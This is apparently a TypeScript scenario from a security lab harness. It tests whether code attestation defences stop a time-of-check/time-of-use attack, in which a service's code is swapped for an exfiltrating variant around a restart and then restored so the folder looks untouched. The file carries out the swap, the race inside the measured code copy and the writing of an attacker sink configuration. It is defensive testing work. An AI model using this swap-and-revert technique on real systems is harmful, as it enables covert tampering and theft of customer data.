import { access, chmod, copyFile, mkdtemp, readFile, rename, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { measuredByRuntime } from '../../defences/attestation.js';
import type { PartState } from '../../kernel/lab-state.js';
import { verifyServices } from '../../lab/attest.js';
import { homeOfLab, restartService } from '../../lab/restart.js';
import { ProcessRuntime } from '../../lab/runtimes/process.js';
import type { Runtime } from '../../lab/runtimes/runtime.js';
import { ensureAttested, servicePart, variantBundle, victimCall } from '../plant.js';
import { sinkEvidence, sinkMark, sinkUrlForParts } from '../sink.js';
import { TARGET } from '../target.js';
import { judgeByData, type Scenario, type ScenarioContext } from '../types.js';

interface Swapped {
  service: string;
  appDir: string;
  /** the folder's own service.mjs, as it was */
  original: Buffer;
  /** where the program swapped into the code copy notes that it ran */
  scratch: string;
  /** the code copy whose service.mjs is swapped right now, to be put back */
  copy?: string;
}

/** The process runtime, with `swap` run right after a start's measurement, before the program runs. */
function swappingAfterMeasurement(swap: (part: PartState) => Promise<void>): Runtime {
  const base = new ProcessRuntime();
  return Object.assign(Object.create(base) as ProcessRuntime, {
    start: (launch: Parameters<Runtime['start']>[0], hooks: Parameters<Runtime['start']>[1] = {}) =>
      base.start(launch, {
        ...hooks,
        beforeRun: async (part) => {
          await hooks.beforeRun?.(part);
          await swap(part);
        },
      }),
  });
}

/** The exfiltrating variant, which first notes that it runs (and in which process). */
async function markedVariant(ranFile: string): Promise<Buffer> {
  const mark = `import { writeFileSync as __tmsMarkRan } from 'node:fs'; __tmsMarkRan(${JSON.stringify(ranFile)}, String(process.pid));\n`;
  return Buffer.concat([Buffer.from(mark), await readFile(variantBundle('exfil'))]);
}

const RAN_WAIT_MS = 1500;

/**
 * The review's time-of-check/time-of-use attack on a restart, at the two moments an attacker who
 * writes the code folder has: right after the measurement that precedes the start, and before the
 * restart; each time the original is put back once the service runs, so that the folder is
 * pristine at every later look.
 */
export const swapAtRestart: Scenario = {
  id: 'malicious-service.swap-at-restart',
  title: "A service's code swapped for its restart and put back once it runs",
  paperAttack: 4,
  technique: 'T1036',
  description:
    "The attacker, who can write the customers service's code folder, puts the exfiltrating variant of the kit (src/attacks/payloads/exfil-service.ts) in place of its service.mjs around a restart and puts the original back as soon as the service runs, so the folder is pristine whenever anyone looks again. First right after the measurement that precedes the start (the review's sequence: a watcher renames the file in on the supervisor's 'measured before restart'), then before the restart. The victim reads a customer record through the gateway after each. The process runtime starts a service from a read-only copy made from the bytes read once, before any measurement: the first swap never runs, in any posture. The second runs the swapped code in none; in paper the variant reports the hash of the copy it runs from, honestly, and is refused; in trusted it is measured before the start, and every re-measure after the put-back hashes the folder and the copy that runs, so it stays untrusted. Third, the independent red team's swap inside the code copy (2026-12-07): once the runtime has measured and made the copy, and before Node reads it, the attacker (root, or the lab's user making the copy writable again) renames the marked variant over the copy's service.mjs, with its attacker.json beside it, keeps it there until the variant notes that it runs (or a moment after the service is up) and puts the original back. The scenario lets the attacker win that race every time: the swap is in place before the process exists. The runtime hands Node the bytes it measured through a pipe, never the copy's path, so the swapped file never runs, in any posture; in paper the service's self-report hashes the copy on disk while it is swapped, so it is refused until the revert. Revert puts the original back and restarts the service.",
  evidence:
    "The records that reached the attacker's sink after each of the victim's reads (succeeded when the customer record is among them), the status of each read, and whether the program swapped into the copy ran at all (a file it writes as it loads).",
  expected: { none: 'succeeded', paper: 'blocked', trusted: 'blocked' },
  onlyOn: {
    runtimes: ['process'],
    why: "the code copy and the race are the process runtime's; on Docker a service's code is copied into a new container and measured from it (malicious-service.tampered-code)",
  },

  async setup(ctx) {
    const part = servicePart(ctx, TARGET.service);
    const appDir = part.appDir as string;
    const swapped: Swapped = {
      service: TARGET.service,
      appDir,
      original: await readFile(join(appDir, 'service.mjs')),
      scratch: await mkdtemp(join(tmpdir(), 'tms-swap-')),
    };
    ctx.scratch.swapped = swapped;
  },

  async detonate(ctx) {
    const s = ctx.scratch.swapped as Swapped;
    const swapIn = async () => {
      await writeFile(
        join(s.appDir, 'attacker.json'),
        `${JSON.stringify({ sink: sinkUrlForParts(ctx.lab) }, null, 2)}\n`,
      );
      await copyFile(variantBundle('exfil'), join(s.appDir, 'service.mjs'));
    };
    const ranFile = join(s.scratch, 'ran');
    // The red team's sequence: the copy is made and measured, its service.mjs is renamed over
    // (as it did, on seeing the new process in /proc) before Node reads it.
    /** the copy's file the variant was renamed over, once it was */
    let swappedIn: string | undefined;
    const swapInCopy = async (part: PartState) => {
      if (part.codeCopy === undefined) return;
      s.copy = part.codeCopy;
      await chmod(part.codeCopy, 0o755);
      await writeFile(
        join(part.codeCopy, 'attacker.json'),
        `${JSON.stringify({ sink: sinkUrlForParts(ctx.lab) }, null, 2)}\n`,
      );
      await writeFile(join(part.codeCopy, '.swap.mjs'), await markedVariant(ranFile), { mode: 0o444 });
      await rename(join(part.codeCopy, '.swap.mjs'), join(part.codeCopy, 'service.mjs'));
      swappedIn = join(part.codeCopy, 'service.mjs');
    };
    const moments: [string, () => Promise<void>][] = [
      [
        'right after the measurement before the start',
        () =>
          restartService(ctx.lab, s.service, { runtime: swappingAfterMeasurement(swapIn) }).then(
            () => undefined,
          ),
      ],
      [
        'inside the code copy as its process starts',
        async () => {
          try {
            await restartService(ctx.lab, s.service, { runtime: swappingAfterMeasurement(swapInCopy) });
          } finally {
            // Put back once the swapped program runs; the service is up by now, so a little
            // more only covers a slow write of the mark.
            const ran = await waitFor(ranFile, RAN_WAIT_MS);
            await putBackCopy(s);
            ctx.evidence.attempts.push({
              action: "the program swapped into the code copy runs in the service's process",
              target: swappedIn ?? 'the code copy',
              gotData: false,
              note:
                swappedIn === undefined
                  ? 'the swap was not made'
                  : ran === undefined
                    ? 'it did not run'
                    : `it ran in pid ${ran.trim()}`,
            });
          }
        },
      ],
      [
        'before the restart',
        async () => {
          await swapIn();
          await restartService(ctx.lab, s.service);
        },
      ],
    ];
    for (const [when, restart] of moments) {
      const mark = await sinkMark(ctx.lab);
      try {
        await restart();
      } finally {
        await putBack(s);
      }
      // The watchman's re-measure of a folder that looks pristine again, done now, not in 10 s.
      if (measuredByRuntime(ctx.defences.attestation)) await verifyServices(homeOfLab(ctx.lab), [s.service]);
      await victimCall(
        ctx,
        TARGET.service,
        TARGET.path,
        `the victim reads a customer record (swapped ${when})`,
      );
      await sinkEvidence(ctx, mark, TARGET.marker, `what reached the attacker sink (swapped ${when})`);
    }
  },

  judge: judgeByData,

  async revert(ctx: ScenarioContext) {
    const s = ctx.scratch.swapped as Swapped | undefined;
    if (s === undefined) return;
    await putBack(s);
    await restartService(ctx.lab, s.service);
    await ensureAttested(ctx, s.service);
    await rm(s.scratch, { recursive: true, force: true });
    ctx.scratch.swapped = undefined;
  },
};

async function putBack(s: Swapped): Promise<void> {
  await writeFile(join(s.appDir, 'service.mjs'), s.original);
  await rm(join(s.appDir, 'attacker.json'), { force: true });
  await putBackCopy(s);
}

/** The copy as it was made: the original program, read-only, no attacker.json. */
async function putBackCopy(s: Swapped): Promise<void> {
  const copy = s.copy;
  if (copy === undefined) return;
  await chmod(copy, 0o755);
  await writeFile(join(copy, '.swap.mjs'), s.original, { mode: 0o444 });
  await rename(join(copy, '.swap.mjs'), join(copy, 'service.mjs'));
  await rm(join(copy, 'attacker.json'), { force: true });
  await chmod(copy, 0o555);
  s.copy = undefined;
}

/** The file's content once it exists, or undefined after `ms`. */
async function waitFor(file: string, ms: number): Promise<string | undefined> {
  const until = performance.now() + ms;
  for (;;) {
    const ok = await access(file).then(
      () => true,
      () => false,
    );
    if (ok) return readFile(file, 'utf8');
    if (performance.now() >= until) return undefined;
    await new Promise((r) => setTimeout(r, 100));
  }
}
